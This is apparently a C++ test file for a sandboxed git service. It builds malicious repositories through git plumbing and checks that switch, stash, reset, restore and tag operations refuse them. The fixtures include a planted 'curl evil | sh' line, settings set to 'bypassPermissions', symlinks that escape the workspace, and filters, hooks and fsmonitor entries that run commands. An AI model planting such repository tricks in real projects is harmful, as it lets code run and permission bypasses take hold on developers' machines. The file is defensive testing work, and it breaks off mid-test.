// What the git service's writes may change and what its results may show,
// whatever a repository holds. A sandboxed `git` can build any tree, branch
// or stash (hash-object, mktree, commit-tree, update-ref), so every attack
// here is set up with the git CLI, as such a process would, and then one
// service operation must refuse it without writing anything:
//  - trees that would write icotes' settings (.icotes/) or git's own files;
//  - work-tree symlinks that would carry a checkout, a stash pop or a reset
//    out of the workspace or into .icotes/;
//  - paths the client's write check refuses (a deny rule);
//  - filters and hooks that would run commands;
//  - branch names that would break .git/config.
// And multi-file results (diff, show) leave out files a Read deny rule
// covers; blame and show of such a file are refused.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <map>
#include <string>

#include "git_fixture.hpp"
#include "icotes/builtin_ops.hpp"
#include "icotes/permission_gate.hpp"
#include "icotes/permissions.hpp"
#include "services/git/worktree_guard.hpp"

namespace icotes {
namespace {

using test::exists_nofollow;
using test::GitOp;
using test::GitRepoTest;
using test::read_file;
using test::write_file;

bool contains(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }

class GitSafety : public GitRepoTest {
 protected:
  void SetUp() override {
    GitRepoTest::SetUp();
    std::filesystem::create_directories(outside());
    put("a", "a\n");
    put("dir/b", "b\n");
    commit_all("base");
  }

  /// A commit on `parent` with `files` (path -> content; a content starting
  /// with "->" makes a symlink to the rest) added, made with git's plumbing
  /// and a private index as a sandboxed git could, and branch `name` at it.
  /// The work tree and the real index are not touched.
  void plumb_branch(const std::string& name, const std::map<std::string, std::string>& files,
                    const std::string& parent = "main") {
    std::string cmd = "export GIT_INDEX_FILE=.git/plumb-index && rm -f .git/plumb-index && ";
    cmd += parent.empty() ? "true" : "git read-tree " + parent;
    for (const auto& [path, content] : files) {
      const bool link = content.rfind("->", 0) == 0;
      const std::string data = link ? content.substr(2) : content;
      cmd += " && blob=$(printf '%s' '" + data + "' | git hash-object -w --stdin)";
      cmd +=
          " && git update-index --add --cacheinfo " + std::string(link ? "120000" : "100644") + ",$blob,'" + path + "'";
    }
    cmd += " && tree=$(git write-tree) && commit=$(git commit-tree $tree " +
           (parent.empty() ? std::string() : "-p " + parent) + " -m plumbed) && git update-ref refs/heads/" + name +
           " $commit && rm -f .git/plumb-index";
    must(cmd);
  }

  /// Everything that must stay as it was after a refusal: HEAD, index,
  /// status, stashes, and the files (with contents) of the work tree.
  std::string snapshot() {
    return state(dir()) + git("stash list --format='%gd %H'") +
           must(
               "find . -path ./.git -prune -o -print | sort | while read f; do echo \"$f\"; "
               "[ -f \"$f\" ] && [ ! -L \"$f\" ] && cat \"$f\"; [ -L \"$f\" ] && readlink \"$f\"; done; true");
  }

  /// The error of a refused call, which must name `path`.
  std::string refused(GitOp op, const json& params, const std::string& path) {
    const std::string msg = fails(op, params, error_code::kPermissionDenied);
    EXPECT_TRUE(contains(msg, path)) << msg;
    return msg;
  }
};

// ---- 6. writes to .icotes/ and git's own files ------------------------------

TEST_F(GitSafety, SwitchRefusesABranchThatWritesIcotes) {
  plumb_branch("evil", {{".icotes/config.toml", "mode = \"bypassPermissions\"\n"}, {"a", "changed\n"}});
  const std::string before = snapshot();
  const std::string msg = refused(git::branch, {{"action", "switch"}, {"name", "evil"}}, ".icotes/config.toml");
  EXPECT_TRUE(contains(msg, "Nothing was changed")) << msg;
  EXPECT_EQ(snapshot(), before);  // not even `a`
  EXPECT_FALSE(exists_nofollow(dir() + "/.icotes"));
  // force (git switch --discard-changes) is refused the same way.
  refused(git::branch, {{"action", "switch"}, {"name", "evil"}, {"force", true}}, ".icotes/config.toml");
  EXPECT_EQ(snapshot(), before);
}

TEST_F(GitSafety, SwitchRefusesIcotesAtAnyDepth) {
  plumb_branch("evil", {{"sub/project/.icotes/config.toml", "x\n"}});
  const std::string before = snapshot();
  refused(git::branch, {{"action", "switch"}, {"name", "evil"}}, "sub/project/.icotes/config.toml");
  EXPECT_EQ(snapshot(), before);
}

TEST_F(GitSafety, SwitchFromAnUnbornBranchRefusesIcotes) {
  plumb_branch("evil", {{".icotes/config.toml", "x\n"}, {"f", "f\n"}}, "");
  must("git checkout -q --orphan fresh && git rm -rqf --cached . && rm -rf a dir");
  const std::string before = snapshot();
  refused(git::branch, {{"action", "switch"}, {"name", "evil"}}, ".icotes/config.toml");
  EXPECT_EQ(snapshot(), before);
  EXPECT_FALSE(exists_nofollow(dir() + "/f"));
}

TEST_F(GitSafety, SwitchRefusesToDeleteIcotes) {
  // A project that tracks its settings, and a branch from before it did.
  must("git branch old");
  put(".icotes/config.toml", "[permissions]\ndeny = [\"Bash(rm:*)\"]\n");
  commit_all("settings");
  const std::string before = snapshot();
  const std::string msg = refused(git::branch, {{"action", "switch"}, {"name", "old"}}, ".icotes/config.toml");
  EXPECT_EQ(snapshot(), before);
  EXPECT_EQ(read_file(dir() + "/.icotes/config.toml"), "[permissions]\ndeny = [\"Bash(rm:*)\"]\n");
}

TEST_F(GitSafety, TreesWithGitDirectoriesAreRefused) {
  // git's own tools refuse `.git` in a path (update-index, fsck); mktree
  // does not check, so a tree can hold one.
  const std::string blob = must("printf '[core]\\n\\tfsmonitor = touch pwned\\n' | git hash-object -w --stdin");
  const std::string config = blob.substr(0, 40);
  const std::string gitdir = must("printf '100644 blob " + config + "\\tconfig\\n' | git mktree").substr(0, 40);
  const std::string sub = must("printf '040000 tree " + gitdir + "\\t.git\\n' | git mktree").substr(0, 40);
  const std::string head = git("rev-parse HEAD^{tree}");
  const std::string root =
      must("(git ls-tree HEAD; printf '040000 tree " + sub + "\\tsub\\n') | git mktree").substr(0, 40);
  ASSERT_NE(root, head);
  must("git update-ref refs/heads/evil $(git commit-tree " + root + " -p HEAD -m evil)");
  // And `.git/config` at the top.
  const std::string top =
      must("(git ls-tree HEAD; printf '040000 tree " + gitdir + "\\t.git\\n') | git mktree").substr(0, 40);
  must("git update-ref refs/heads/evil2 $(git commit-tree " + top + " -p HEAD -m evil2)");
  const std::string before = snapshot();
  const std::string real_config = read_file(dir() + "/.git/config");
  // libgit2 1.5.1 refuses such paths itself (checkout_verify_paths,
  // GIT_PATH_REJECT_DOT_GIT), as git does; the service refuses them first,
  // as paths no operation may change.
  for (const char* name : {"evil", "evil2"}) {
    git_repository* repo = nullptr;
    ASSERT_EQ(git_repository_open(&repo, dir().c_str()), 0);
    git_object* target = nullptr;
    ASSERT_EQ(git_revparse_single(&target, repo, name), 0);
    git_checkout_options opts = GIT_CHECKOUT_OPTIONS_INIT;
    opts.checkout_strategy = GIT_CHECKOUT_FORCE;
    EXPECT_NE(git_checkout_tree(repo, target, &opts), 0) << name;
    EXPECT_TRUE(contains(git_error_last()->message, "invalid path")) << git_error_last()->message;
    git_object_free(target);
    git_repository_free(repo);
    EXPECT_EQ(snapshot(), before);
  }
  for (const char* name : {"evil", "evil2"}) {
    for (const bool force : {false, true}) {
      auto r = call(git::branch, {{"action", "switch"}, {"name", name}, {"force", force}});
      ASSERT_FALSE(r.ok()) << name << " " << r->dump();
      EXPECT_TRUE(contains(r.error().message, ".git")) << r.error().message;
      EXPECT_EQ(snapshot(), before) << name;
      EXPECT_EQ(read_file(dir() + "/.git/config"), real_config);
      EXPECT_FALSE(exists_nofollow(dir() + "/sub"));
    }
  }
}

TEST_F(GitSafety, ACheckoutRefusedWhileLibgit2PlansWritesNothing) {
  // libgit2 1.5.1 notifies (checkout_get_actions) before it removes or
  // writes any file: a path the guard was not told about is judged there,
  // and refusing it leaves even the files planned before it unwritten
  // (".a" comes before ".icotes" in libgit2's order, "b" after).
  plumb_branch("evil", {{".a", "x\n"}, {".icotes/config.toml", "x\n"}, {"b", "y\n"}});
  const std::string before = snapshot();
  auto out = in_repo([&](git::Repo& r) -> Result<json> {
    git_object* target = nullptr;
    EXPECT_EQ(git_revparse_single(&target, r.repo, "evil^{tree}"), 0);
    const std::vector<git::Change> told = {{".a", GIT_FILEMODE_BLOB}, {"b", GIT_FILEMODE_BLOB}};
    git::GuardedCheckout checkout(r, "test", told);
    git_checkout_options opts = GIT_CHECKOUT_OPTIONS_INIT;
    opts.checkout_strategy = GIT_CHECKOUT_SAFE;
    auto rc = checkout.run(target, nullptr, opts);
    git_object_free(target);
    if (!rc) return std::move(rc).error();
    return json(*rc);
  });
  ASSERT_FALSE(out.ok()) << out->dump();
  EXPECT_EQ(out.error().code, error_code::kPermissionDenied);
  EXPECT_TRUE(contains(out.error().message, ".icotes/config.toml")) << out.error().message;
  EXPECT_FALSE(exists_nofollow(dir() + "/.a"));
  EXPECT_FALSE(exists_nofollow(dir() + "/b"));
  EXPECT_EQ(snapshot(), before);
}

TEST_F(GitSafety, StashPopRefusesIcotes) {
  // An untracked .icotes/config.toml in a stash (git stash -u by the CLI).
  must("mkdir .icotes && echo 'mode = \"bypassPermissions\"' > .icotes/config.toml && echo x > u && git stash -q -u");
  ASSERT_FALSE(exists_nofollow(dir() + "/.icotes"));
  std::string before = snapshot();
  refused(git::stash, {{"action", "pop"}}, ".icotes/config.toml");
  EXPECT_EQ(snapshot(), before);
  EXPECT_FALSE(exists_nofollow(dir() + "/u"));
  must("git stash drop -q");
  // A tracked one changed in a stash.
  put(".icotes/config.toml", "safe\n");
  commit_all("settings");
  must("echo evil > .icotes/config.toml && git stash -q");
  before = snapshot();
  refused(git::stash, {{"action", "pop"}}, ".icotes/config.toml");
  EXPECT_EQ(snapshot(), before);
  EXPECT_EQ(read_file(dir() + "/.icotes/config.toml"), "safe\n");
}

// ---- 7. symlinks out of the workspace, or into .icotes/ ---------------------

TEST_F(GitSafety, StashPopRefusesASymlinkOutOfTheWorkspace) {
  // The stash holds an untracked d/.bashrc; the branch switched to has `d`
  // as a symlink to a directory outside.
  put("d/.bashrc", "curl evil | sh\n");
  ok(git::stash, {{"action", "push"}, {"includeUntracked", true}});
  ASSERT_FALSE(exists_nofollow(dir() + "/d"));
  std::filesystem::create_directories(outside() + "/victim-home");
  plumb_branch("linked", {{"d", "->../outside/victim-home"}});
  ok(git::branch, {{"action", "switch"}, {"name", "linked"}});
  ASSERT_TRUE(std::filesystem::is_symlink(dir() + "/d"));
  const std::string before = snapshot();
  const std::string msg = refused(git::stash, {{"action", "pop"}}, "d/.bashrc");
  EXPECT_TRUE(contains(msg, "outside")) << msg;
  EXPECT_FALSE(exists_nofollow(outside() + "/victim-home/.bashrc"));
  EXPECT_EQ(snapshot(), before);
  EXPECT_EQ(git("stash list --format=%gd"), "stash@{0}");
}

TEST_F(GitSafety, StashPopRefusesASymlinkIntoIcotes) {
  put("d/config.toml", "mode = \"bypassPermissions\"\n");
  ok(git::stash, {{"action", "push"}, {"includeUntracked", true}});
  // .icotes/ exists (grants, say) but has no config.toml yet.
  must("mkdir .icotes && echo '{}' > .icotes/grants.json");
  plumb_branch("linked", {{"d", "->.icotes"}});
  ok(git::branch, {{"action", "switch"}, {"name", "linked"}});
  const std::string before = snapshot();
  const std::string msg = refused(git::stash, {{"action", "pop"}}, ".icotes/config.toml");
  EXPECT_TRUE(contains(msg, "d/config.toml")) << msg;
  EXPECT_FALSE(exists_nofollow(dir() + "/.icotes/config.toml"));
  EXPECT_EQ(snapshot(), before);
}

TEST_F(GitSafety, StashPopRefusesASymlinkItWritesItself) {
  // A stash crafted with plumbing: its work tree turns the tracked symlink
  // `q` (to sub/) into one leading out of the workspace, and its untracked
  // files hold q/x. Popping writes the symlink first, then q/x through it.
  must("mkdir sub && ln -s sub q && git add q && git commit -qm q");
  must(
      "export GIT_INDEX_FILE=.git/plumb-index && git read-tree HEAD && "
      "link=$(printf '../outside' | git hash-object -w --stdin) && "
      "git update-index --cacheinfo 120000,$link,q && work=$(git write-tree) && rm .git/plumb-index && "
      "x=$(printf 'payload' | git hash-object -w --stdin) && "
      "qt=$(printf '100644 blob %s\\tx\\n' $x | git mktree) && "
      "ut=$(printf '040000 tree %s\\tq\\n' $qt | git mktree) && "
      "u=$(git commit-tree $ut -m 'untracked files on main') && "
      "i=$(git commit-tree HEAD^{tree} -p HEAD -m 'index on main') && "
      "s=$(git commit-tree $work -p HEAD -p $i -p $u -m 'WIP on main') && git stash store $s");
  ASSERT_EQ(git("stash list --format=%gd"), "stash@{0}");
  const std::string before = snapshot();
  const std::string msg = refused(git::stash, {{"action", "pop"}}, "q/x");
  EXPECT_TRUE(contains(msg, "becomes a file or symlink")) << msg;
  EXPECT_FALSE(exists_nofollow(outside() + "/x"));
  EXPECT_EQ(snapshot(), before);
}

TEST_F(GitSafety, SwitchRefusesAnUntrackedSymlinkOutOfTheWorkspace) {
  plumb_branch("adds", {{"d/x", "payload\n"}});
  must("ln -s ../outside d");
  const std::string before = snapshot();
  auto r = call(git::branch, {{"action", "switch"}, {"name", "adds"}});
  EXPECT_FALSE(r.ok());
  EXPECT_FALSE(exists_nofollow(outside() + "/x"));
  EXPECT_EQ(snapshot(), before);
  r = call(git::branch, {{"action", "switch"}, {"name", "adds"}, {"force", true}});
  EXPECT_FALSE(exists_nofollow(outside() + "/x"));
  if (r.ok()) {  // then like git: the symlink replaced by the directory
    struct stat st {};
    ASSERT_EQ(::lstat((dir() + "/d").c_str(), &st), 0);
    EXPECT_TRUE(S_ISDIR(st.st_mode));
  }
}

TEST_F(GitSafety, SwitchRefusesAnUntrackedSymlinkIntoGitHooks) {
  plumb_branch("hooked", {{"h/post-checkout", "#!/bin/sh\ntouch pwned\n"}});
  must("ln -s .git/hooks h");
  const std::string before = snapshot();
  for (const bool force : {false, true}) {
    const std::string msg =
        refused(git::branch, {{"action", "switch"}, {"name", "hooked"}, {"force", force}}, ".git/hooks/post-checkout");
    EXPECT_TRUE(contains(msg, "'h'")) << msg;
    EXPECT_FALSE(exists_nofollow(dir() + "/.git/hooks/post-checkout"));
    EXPECT_EQ(snapshot(), before);
  }
}

TEST_F(GitSafety, SwitchReplacesATrackedSymlinkWithADirectoryLikeGit) {
  // Not an attack: a tracked symlink (to outside) that the other branch
  // replaces with a directory is removed first, as git does.
  plumb_branch("linked", {{"d", "->../outside"}});
  ok(git::branch, {{"action", "switch"}, {"name", "linked"}});
  plumb_branch("dir", {{"d/x", "inside\n"}}, "main");
  make_twin();
  ok(git::branch, {{"action", "switch"}, {"name", "dir"}});
  in_twin("git switch -q dir");
  expect_twin_state();
  EXPECT_EQ(read_file(dir() + "/d/x"), "inside\n");
  EXPECT_FALSE(exists_nofollow(outside() + "/x"));
  // And back.
  ok(git::branch, {{"action", "switch"}, {"name", "linked"}});
  EXPECT_TRUE(std::filesystem::is_symlink(dir() + "/d"));
}

TEST_F(GitSafety, ForceSwitchDoesNotWriteThroughAFileSymlink) {
  plumb_branch("other", {{"a", "from other\n"}});
  write_file(outside() + "/victim", "victim\n");
  must("rm a && ln -s ../outside/victim a");
  make_twin();
  ok(git::branch, {{"action", "switch"}, {"name", "other"}, {"force", true}});
  EXPECT_EQ(read_file(outside() + "/victim"), "victim\n");
  EXPECT_FALSE(std::filesystem::is_symlink(dir() + "/a"));
  EXPECT_EQ(read_file(dir() + "/a"), "from other\n");
  in_twin("git switch -q --discard-changes other");
  expect_twin_state();
}

TEST_F(GitSafety, StashPushDoesNotWriteThroughAFileSymlink) {
  // The tracked `a`, changed into a symlink: stashing it puts HEAD's `a`
  // back, as a file (git: unlink, then write).
  write_file(outside() + "/victim", "victim\n");
  must("rm a && ln -s ../outside/victim a");
  make_twin();
  ok(git::stash, {{"action", "push"}});
  EXPECT_EQ(read_file(outside() + "/victim"), "victim\n");
  EXPECT_FALSE(std::filesystem::is_symlink(dir() + "/a"));
  EXPECT_EQ(read_file(dir() + "/a"), "a\n");
  in_twin("git stash -q");
  expect_twin_state();
  ok(git::stash, {{"action", "pop"}});
  EXPECT_TRUE(std::filesystem::is_symlink(dir() + "/a"));
}

TEST_F(GitSafety, StashPushLeavesProtectedUntrackedFilesInPlace) {
  must("mkdir .icotes && echo 'mode = \"default\"' > .icotes/config.toml && echo u > u");
  const json out = ok(git::stash, {{"action", "push"}, {"includeUntracked", true}});
  EXPECT_TRUE(out["stashed"].get<bool>());
  EXPECT_TRUE(contains(out.value("note", ""), ".icotes/config.toml")) << out.dump();
  EXPECT_EQ(read_file(dir() + "/.icotes/config.toml"), "mode = \"default\"\n");
  EXPECT_FALSE(exists_nofollow(dir() + "/u"));
  EXPECT_EQ(git("ls-tree -r --name-only stash@{0}^3"), "u");
  ok(git::stash, {{"action", "pop"}});
  EXPECT_EQ(read_file(dir() + "/u"), "u\n");
}

// ---- the same for git_reset --hard, git_checkout and git_restore ------------

TEST_F(GitSafety, ResetCheckoutAndRestoreRefuseACommitThatWritesIcotes) {
  plumb_branch("evil", {{".icotes/config.toml", "mode = \"bypassPermissions\"\n"}, {"a", "changed\n"}});
  const std::string before = snapshot();
  refused(git::reset, {{"rev", "evil"}, {"mode", "hard"}}, ".icotes/config.toml");
  EXPECT_EQ(snapshot(), before);
  EXPECT_FALSE(exists_nofollow(dir() + "/.git/ORIG_HEAD"));
  for (const bool force : {false, true}) {
    refused(git::checkout, {{"rev", "evil"}, {"force", force}}, ".icotes/config.toml");
    EXPECT_EQ(snapshot(), before);
  }
  must("git tag evil-tag evil");
  refused(git::checkout, {{"rev", "evil-tag"}}, ".icotes/config.toml");
  refused(git::restore, {{"paths", {"."}}, {"rev", "evil"}}, ".icotes/config.toml");
  refused(git::restore, {{"paths", {"."}}, {"rev", "evil"}, {"staged", true}, {"worktree", true}},
          ".icotes/config.toml");
  EXPECT_EQ(snapshot(), before);
  EXPECT_FALSE(exists_nofollow(dir() + "/.icotes"));
  // Soft and mixed resets write no work-tree file: they may move there.
  ok(git::reset, {{"rev", "evil"}, {"mode", "mixed"}});
  EXPECT_FALSE(exists_nofollow(dir() + "/.icotes"));
}

TEST_F(GitSafety, ResetAndRestoreRefuseToDeleteTrackedIcotes) {
  must("git tag before-settings");
  put(".icotes/config.toml", "[permissions]\ndeny = [\"Bash(rm:*)\"]\n");
  commit_all("settings");
  const std::string before = snapshot();
  refused(git::reset, {{"rev", "before-settings"}, {"mode", "hard"}}, ".icotes/config.toml");
  refused(git::checkout, {{"rev", "before-settings"}}, ".icotes/config.toml");
  refused(git::restore, {{"paths", {"."}}, {"rev", "before-settings"}}, ".icotes/config.toml");
  EXPECT_EQ(snapshot(), before);
  // Discarding a local change to it is a write to it, too.
  put(".icotes/config.toml", "changed\n");
  const std::string changed = snapshot();
  refused(git::restore, {{"paths", {".icotes/config.toml"}}}, ".icotes/config.toml");
  refused(git::reset, {{"mode", "hard"}}, ".icotes/config.toml");
  EXPECT_EQ(snapshot(), changed);
}

TEST_F(GitSafety, ResetCheckoutAndRestoreRefuseAnUntrackedSymlinkOutOfTheWorkspace) {
  plumb_branch("adds", {{"d/x", "payload\n"}});
  must("ln -s ../outside d");
  const std::string before = snapshot();
  for (const bool force : {false, true}) {
    auto r = call(git::checkout, {{"rev", "adds"}, {"force", force}});
    EXPECT_FALSE(exists_nofollow(outside() + "/x"));
    if (!r.ok()) {
      EXPECT_EQ(snapshot(), before);
    }
  }
  must("git checkout -q -f main 2>/dev/null; rm -rf d && ln -s ../outside d");
  auto r = call(git::reset, {{"rev", "adds"}, {"mode", "hard"}});
  EXPECT_FALSE(exists_nofollow(outside() + "/x"));
  must("git reset -q --hard main 2>/dev/null; rm -rf d && ln -s ../outside d");
  r = call(git::restore, {{"paths", {"d/x"}}, {"rev", "adds"}});
  EXPECT_FALSE(r.ok());
  EXPECT_FALSE(exists_nofollow(outside() + "/x"));
}

// ---- the client's write check (deny rules) ----------------------------------

git::Policy deny_writes_under(std::string prefix) {
  git::Policy p;
  p.may_write = [prefix](std::string_view rel) -> Status {
    if (auto why = protected_path_reason(rel)) return make_error(error_code::kPermissionDenied, *why);
    if (rel.substr(0, prefix.size()) == prefix)
      return make_error(error_code::kPermissionDenied, "permission denied: this write lands on " + std::string(rel) +
                                                           " (rule Write(" + prefix + "**))");
    return ok_status();
  };
  return p;
}

TEST_F(GitSafety, WritesRespectTheClientsWriteCheck) {
  put("secrets/key", "old\n");
  commit_all("key");
  plumb_branch("rotate", {{"secrets/key", "new\n"}, {"a", "changed\n"}});
  set_policy(deny_writes_under("secrets/"));
  const std::string before = snapshot();
  const std::string msg = refused(git::branch, {{"action", "switch"}, {"name", "rotate"}}, "secrets/key");
  EXPECT_TRUE(contains(msg, "Write(secrets/**)")) << msg;
  EXPECT_EQ(snapshot(), before);
  // Through a symlink inside the workspace: judged where it lands.
  set_policy({});
  put("d/new", "planted\n");
  ok(git::stash, {{"action", "push"}, {"includeUntracked", true}});
  must("ln -s secrets d && git add d && git commit -qm link");
  set_policy(deny_writes_under("secrets/"));
  const std::string before_pop = snapshot();
  refused(git::stash, {{"action", "pop"}}, "secrets/new");
  EXPECT_EQ(snapshot(), before_pop);
  EXPECT_FALSE(exists_nofollow(dir() + "/secrets/new"));
}

TEST_F(GitSafety, NewWritesRespectTheClientsWriteCheck) {
  put("secrets/key", "old\n");
  commit_all("key");
  plumb_branch("rotate", {{"secrets/key", "new\n"}, {"a", "changed\n"}});
  set_policy(deny_writes_under("secrets/"));
  const std::string before = snapshot();
  EXPECT_TRUE(contains(refused(git::reset, {{"rev", "rotate"}, {"mode", "hard"}}, "secrets/key"), "Write(secrets/**)"));
  refused(git::checkout, {{"rev", "rotate"}}, "secrets/key");
  refused(git::restore, {{"paths", {"secrets"}}, {"rev", "rotate"}}, "secrets/key");
  put("secrets/key", "local\n");
  refused(git::restore, {{"paths", {"secrets/key"}}}, "secrets/key");
  put("secrets/key", "old\n");
  EXPECT_EQ(snapshot(), before);
}

// ---- siblings: filters, hooks, .git/config ----------------------------------

TEST_F(GitSafety, CheckoutsRunNoFilterOrHook) {
  // Set up with the git CLI first: git itself would run what follows.
  plumb_branch("filtered", {{".gitattributes", "* filter=evil\n"}, {"f", "f\n"}});
  const std::string pwned = outside() + "/pwned";
  must("git config filter.evil.smudge 'touch " + pwned + "-smudge; cat' && git config filter.evil.clean 'touch " +
       pwned + "-clean; cat' && git config filter.evil.process 'touch " + pwned + "-process'");
  must("git config core.fsmonitor 'touch " + pwned + "-fsmonitor'");
  must("git config core.hooksPath .git/hooks");
  for (const char* hook : {"post-checkout", "post-commit", "pre-commit", "post-merge", "reference-transaction"})
    must("printf '#!/bin/sh\\ntouch " + pwned + "-" + hook + "\\n' > .git/hooks/" + hook + " && chmod +x .git/hooks/" +
         hook);
  ok(git::branch, {{"action", "switch"}, {"name", "filtered"}});
  EXPECT_EQ(read_file(dir() + "/f"), "f\n");
  put("f", "changed\n");
  put("u", "untracked\n");
  ok(git::stage, {{"paths", {"f"}}});
  ok(git::commit, {{"message", "c"}});
  put("f", "again\n");
  ok(git::stash, {{"action", "push"}, {"includeUntracked", true}});
  ok(git::stash, {{"action", "pop"}});
  ok(git::branch, {{"action", "switch"}, {"name", "main"}, {"force", true}});
  ok(git::status, json::object());
  ok(git::diff, json::object());
  EXPECT_EQ(test::tree(outside()), std::vector<std::string>{});
}

TEST_F(GitSafety, NewWritesRunNoFilterOrHook) {
  // git_checkout, git_reset, git_restore and git_tag with every command
  // git could run configured: a filter (smudge, clean, process), fsmonitor
  // and a hook for each event git has; none may run.
  plumb_branch("filtered", {{".gitattributes", "* filter=evil\n"}, {"f", "f\n"}});
  const std::string pwned = outside() + "/pwned";
  must("git config filter.evil.smudge 'touch " + pwned + "-smudge; cat' && git config filter.evil.clean 'touch " +
       pwned + "-clean; cat' && git config filter.evil.process 'touch " + pwned + "-process'");
  must("git config core.fsmonitor 'touch " + pwned + "-fsmonitor'");
  must("git config core.hooksPath .git/hooks");
  for (const char* hook : {"post-checkout", "post-commit", "pre-commit", "post-merge", "reference-transaction",
                           "post-rewrite", "post-index-change", "pre-push"})
    must("printf '#!/bin/sh\\ntouch " + pwned + "-" + hook + "\\n' > .git/hooks/" + hook + " && chmod +x .git/hooks/" +
         hook);
  ok(git::checkout, {{"rev", "filtered"}});
  EXPECT_EQ(read_file(dir() + "/f"), "f\n");
  put("f", "changed\n");
  ok(git::restore, {{"paths", {"f"}}});
  EXPECT_EQ(read_file(dir() + "/f"), "f\n");
  ok(git::restore, {{"paths", {"."}}, {"rev", "main"}});
  EXPECT_FALSE(exists_nofollow(dir() + "/f"));
  ok(git::reset, {{"rev", "filtered"}, {"mode", "hard"}});
  ok(git::tag, {{"action", "create"}, {"name", "light"}});
  ok(git::tag, {{"action", "create"}, {"name", "annotated"}, {"message", "m"}});
  ok(git::tag, {{"action", "delete"}, {"name", "light"}});
  ok(git::reset, {{"rev", "main"}, {"mode", "soft"}});
  ok(git::reset, {{"rev", "main"}, {"mode", "mixed"}});
  ok(git::checkout, {{"rev", "main"}, {"force", true}});
  ok(git::reset, {{"mode", "hard"}});
  EXPECT_TRUE(init_repo(json::object()).ok());  // the repository exists: nothing to run either
  EXPECT_EQ(test::tree(outside()), std::vector<std::string>{});
}

TEST_F(GitSafety, NewWritesRefuseGitsOwnFilesAndPathsOutside) {
  // Paths the client names: git_restore's. Outside the workspace (relative,
  // absolute, through a symlink), git's own files and icotes' settings are
  // refused and nothing changes.
  std::filesystem::create_directories(outside());
  write_file(outside() + "/x", "outside\n");
  must("ln -s ../outside out");
  put("a", "local\n");
  const std::string before = snapshot();
  for (const std::string& path :
       std::vector<std::string>{"../outside/x", outside() + "/x", "/etc/passwd", "out/x", ".git/config",
                                ".git/hooks/pre-commit", ".git", ".icotes/config.toml"}) {
    for (const bool staged : {false, true}) {
      auto r = call(git::restore, {{"paths", {path}}, {"staged", staged}});
      EXPECT_FALSE(r.ok()) << path << " staged=" << staged;
      auto from = call(git::restore, {{"paths", {path}}, {"rev", "main"}, {"staged", staged}, {"worktree", true}});
      EXPECT_FALSE(from.ok()) << path << " from main, staged=" << staged;
    }
  }
  EXPECT_EQ(snapshot(), before);
  EXPECT_EQ(read_file(outside() + "/x"), "outside\n");
  // Names that are no ref: refused before anything is written.
  for (const std::string bad : {"../../config", "x\ny", "-x", "a..b", "x.lock", "", "HEAD@{1}"})
    EXPECT_FALSE(call(git::tag, {{"action", "create"}, {"name", bad}}).ok()) << bad;
  for (const std::string bad : {"--orphan", "-b", "../../config", "HEAD@{-1}:a"})
    EXPECT_FALSE(call(git::checkout, {{"rev", bad}}).ok()) << bad;
  EXPECT_EQ(snapshot(), before);
  EXPECT_EQ(git("for-each-ref --format='%(refname)'"), "refs/heads/main");
  EXPECT_EQ(sh("git config --list").rc, 0);
}

TEST_F(GitSafety, NewWritesNeedTheGitWritePermission) {
  // What the gate asks before each new write runs: GitWrite on the
  // repository (never allowed by acceptEdits, always denied by readOnly),
  // ReadFile for a tag list, and a path named in .icotes/ or outside the
  // workspace is denied whatever the mode.
  using permissions::Decision;
  using permissions::Mode;
  auto root = ConfinedRoot::open(dir());
  ASSERT_TRUE(root.ok());
  auto gate = permissions::Gate::open(*root, {});
  ASSERT_TRUE(gate.ok()) << gate.error().message;
  const auto decide = [&](const char* id, const json& params, Mode mode) {
    const Operation* op = builtin_registry().find(id);
    EXPECT_NE(op, nullptr) << id;
    if (!op) return Decision::Kind::Allow;
    permissions::Settings settings;
    settings.mode = mode;
    permissions::Cache session;
    const auto needs = (*gate)->needs(*op, params);
    EXPECT_FALSE(needs.empty()) << id << " " << params.dump();
    return permissions::decide(needs, settings, session, nullptr, nullptr).kind;
  };
  for (const char* id : {"git/restore", "git/reset", "git/checkout", "git/init", "git/tag"}) {
    const Operation* op = builtin_registry().find(id);
    ASSERT_NE(op, nullptr) << id;
    EXPECT_EQ(op->kind, OperationKind::GitWrite) << id;
    EXPECT_FALSE(op->annotations.read_only) << id;
  }
  for (const char* id : {"git/restore", "git/reset", "git/checkout", "git/tag"})
    EXPECT_TRUE(builtin_registry().find(id)->annotations.destructive) << id;
  const std::pair<const char*, json> writes[] = {
      {"git/reset", {{"rev", "HEAD~1"}, {"mode", "hard"}}},
      {"git/reset", {{"mode", "soft"}}},
      {"git/restore", {{"paths", {"a"}}}},
      {"git/checkout", {{"rev", "main"}, {"force", true}}},
      {"git/init", json::object()},
      {"git/tag", {{"action", "create"}, {"name", "v1"}}},
      {"git/tag", {{"action", "delete"}, {"name", "v1"}}},
  };
  for (const auto& [id, params] : writes) {
    EXPECT_EQ(decide(id, params, Mode::Default), Decision::Kind::Ask) << id << " " << params.dump();
    EXPECT_EQ(decide(id, params, Mode::AcceptEdits), Decision::Kind::Ask) << id << " " << params.dump();
    EXPECT_EQ(decide(id, params, Mode::ReadOnly), Decision::Kind::Deny) << id << " " << params.dump();
    EXPECT_EQ(decide(id, params, Mode::Bypass), Decision::Kind::Allow) << id << " " << params.dump();
  }
  EXPECT_EQ(decide("git/tag", {{"action", "list"}}, Mode::Default), Decision::Kind::Allow);
  EXPECT_EQ(decide("git/tag", {{"action", "list"}}, Mode::ReadOnly), Decision::Kind::Allow);
  for (const std::string path : {".icotes/config.toml", ".git/config", ".git/hooks/post-checkout", "../outside/x"})
    EXPECT_EQ(decide("git/restore", {{"paths", {path}}}, Mode::Bypass), Decision::Kind::Deny) << path;
}

TEST_F(GitSafety, BranchNamesCannotBreakGitConfig) {
  // A remote-tracking branch named with the characters config syntax
  // gives meaning to; tracking it writes branch.<name>.merge.
  must(
      "git update-ref 'refs/remotes/origin/a\"b]c#d;e' HEAD && git config remote.origin.url ../nowhere && "
      "git config remote.origin.fetch '+refs/heads/*:refs/remotes/origin/*'");
  const std::string name = "a\"b]c#d;e";
  auto r = call(git::branch, {{"action", "create"}, {"name", name}, {"startPoint", "origin/" + name}});
  if (r.ok()) {
    EXPECT_EQ(git("config --get 'branch." + name + ".merge'"), "refs/heads/" + name);
    EXPECT_EQ(git("config --get 'branch." + name + ".remote'"), "origin");
  }
  // Whatever happened, .git/config still parses and holds nothing else.
  EXPECT_EQ(sh("git config --list").rc, 0);
